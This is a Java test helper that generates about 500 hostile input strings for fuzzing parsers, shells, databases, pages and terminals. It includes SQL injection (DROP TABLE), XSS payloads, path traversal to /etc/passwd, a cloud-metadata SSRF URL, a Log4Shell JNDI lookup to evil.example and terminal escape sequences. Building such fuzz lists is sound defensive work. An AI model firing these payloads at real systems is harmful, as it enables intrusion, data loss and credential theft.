package dev.holddown.testing;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/** Texts that mean something to a shell, a database, a query, a page, a terminal or a parser. */
public final class HostileStrings {
  private static final List<String> SEEDS =
      List.of(
          // shells
          "; touch pwned",
          "$(touch pwned)",
          "`touch pwned`",
          "&& touch pwned",
          "| touch pwned",
          "> pwned",
          "$HOME",
          "${IFS}",
          "$((1+1))",
          "<(id)",
          "*",
          "~root",
          "{a,b}",
          "!!",
          "-rf",
          "--exec=sh",
          "\\",
          "a b  c",
          "%PATH%",
          "() { :;}; id",
          // SQL
          "' OR '1'='1",
          "'; DROP TABLE run; --",
          "\" OR \"\"=\"",
          "1; SELECT pg_sleep(9)",
          "admin'--",
          "') UNION SELECT 1--",
          "%' LIKE '%",
          "\u0000' OR 1=1",
          "/* x */",
          "x'41'",
          // PromQL
          "\"} or vector(1) #",
          "'} or vector(1)",
          "a\"}[5m]) or up{b=\"",
          "`} or up",
          "{job=~\".*\"}",
          "up[5m:1s]",
          "\\x22} or up",
          "$__interval",
          "by (le)",
          "# comment",
          // HTML and links
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "javascript:alert(1)",
          "&lt;b&gt;",
          "\"><svg onload=alert(1)>",
          "<!--",
          "]]>",
          "<a href='x'>",
          "&#x41;",
          "<x>",
          // JSON and YAML
          "{\"a\": 1}",
          "\"",
          "\\\"",
          "\\u0041",
          "null",
          "true",
          "[1, 2]",
          "\",\"b\":\"c",
          "1e999",
          "{{x}}",
          "- a",
          "a: b",
          "? a",
          "| a",
          "> a",
          "!!java.lang.Runtime",
          "&a x",
          "*a",
          "%YAML 1.2",
          "---",
          "...",
          "key: [",
          "}",
          "@x",
          "~",
          "0o17",
          ".inf",
          "2026-01-01",
          "1_000",
          // CEL
          "true || true",
          "result.value",
          "${inputs.s}",
          "$${x}",
          "${1/0}",
          "${",
          "}${",
          "has(x)",
          "'a' + 'b'",
          "r'\\'",
          "[1].all(x, true)",
          "size(result)",
          "\"\"\"",
          "x.y.z",
          "with.url",
          // terminals
          "\u001b[31mred\u001b[0m",
          "\u001b]0;title\u0007",
          "\u001b[2J",
          "\u009b31m",
          "\b\b\b",
          "a\rb",
          "a\nb",
          "a\tb",
          "\u007f",
          "\u001bP1$r",
          // paths
          "../../etc/passwd",
          "..\\..\\windows",
          "/etc/passwd",
          "file:///etc/passwd",
          "%2e%2e%2f",
          "....//",
          "C:\\x",
          "\\\\host\\share",
          ".",
          "..",
          "a/../b",
          "/dev/null",
          "con",
          "x\u0000.png",
          // formats
          "%s%s%s%n",
          "%x",
          "{0}",
          "%1$s",
          "$1",
          "\\1",
          "%00",
          "%0a",
          "{}",
          "%d".repeat(50),
          // names of requests
          "http://169.254.169.254/",
          "http://[::1]:80",
          "ftp://x",
          "//evil.example",
          "x@evil.example",
          "a\r\nX-Injected: 1",
          "?a=1&b=2",
          "#frag",
          ";jsessionid=1",
          "%252e",
          // writing
          "日本語",
          "ümläut",
          "🚀",
          "👩‍👩‍👧",
          "e\u0301",
          "\u202Egnp.exe",
          "a\u200Bb",
          "\u2066x\u2069",
          "\uFEFFx",
          "ﷺ",
          "İ",
          "ß",
          "\u0430dmin",
          "Ω",
          "\uD83D",
          "\uDE00x",
          "\uFFFD",
          "\u2028",
          "\u00a0",
          "ﬀ",
          // emptiness and size
          "",
          " ",
          "  x  ",
          "\t",
          "x".repeat(3_000),
          "(".repeat(300),
          "[".repeat(300),
          "a.".repeat(300),
          "9".repeat(400),
          "-".repeat(80),
          "${x}".repeat(60),
          "\u0301".repeat(200));

  private HostileStrings() {}

  /** What a terminal obeys, what looks like another text, what a chat or a log query obeys. */
  private static List<String> generated() {
    List<String> made = new ArrayList<>();
    for (char last : "ABCDHJKSTfhlmnsu".toCharArray()) {
      made.add("\u001b[1" + last + "x");
    }
    for (String order : List.of("0;t", "8;;https://evil.example", "52;c;cHduZWQ=", "1337;File=")) {
      made.add("\u001b]" + order + "\u0007x");
      made.add("\u001b]" + order + "\u001b\\x");
      made.add("\u009d" + order + "\u009cx");
    }
    for (int c : new int[] {0x61c, 0x200b, 0x200e, 0x202a, 0x202e, 0x2060, 0x2066, 0xad, 0xe0041, 0xfeff,
          0x2028, 0x2029, 0xe000, 0x3164}) {
      made.add("a" + Character.toString(c) + "b");
    }
    for (String twin :
        List.of("\u00e9", "\u212b", "\u1e9b\u0323", "\ufb01", "\uff1cb\uff1e", "\u2460")) {
      for (var form : java.text.Normalizer.Form.values()) {
        made.add("n" + java.text.Normalizer.normalize(twin, form));
      }
    }
    for (String tag :
        List.of("svg/onload", "details open ontoggle", "body onload", "input onfocus")) {
      made.add("<" + tag + "=alert(1)>");
      made.add("'><" + tag + "=alert(1)>");
    }
    made.addAll(
        List.of(
            "<https://evil.example|status page>",
            "<!channel>",
            "<!here|all>",
            "<!subteam^S1>",
            "<mailto:x@evil.example|pay>",
            "<@U123>",
            "[status](javascript:alert(1))",
            "![x](https://evil.example/x.png)",
            "| a | b |",
            "```\nx",
            "x;}body{background:url(//evil.example)}",
            "</style><style>*{display:none}",
            "</script><script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}",
            "\"} |= `x` | json | line_format \"{{.x}}",
            "(a+)+$",
            "data: x\n\nevent: y",
            "\r\n\r\n<html>",
            "%0d%0aX-Injected:%201",
            "$$; DROP TABLE run; $$"));
    return made;
  }

  /** Five hundred of them, in a fixed order; the first are the shortest to understand. */
  public static List<String> all() {
    Set<String> all = new LinkedHashSet<>(SEEDS);
    all.addAll(generated());
    List<String> frames = List.of("'%'", "\"%\"", "a%b", "%\n%", "${%}", "{%}", "%;%", " %");
    for (String frame : frames) {
      for (String seed : SEEDS) {
        if (all.size() < 500) {
          all.add(frame.replace("%", seed));
        }
      }
    }
    return new ArrayList<>(all);
  }
}
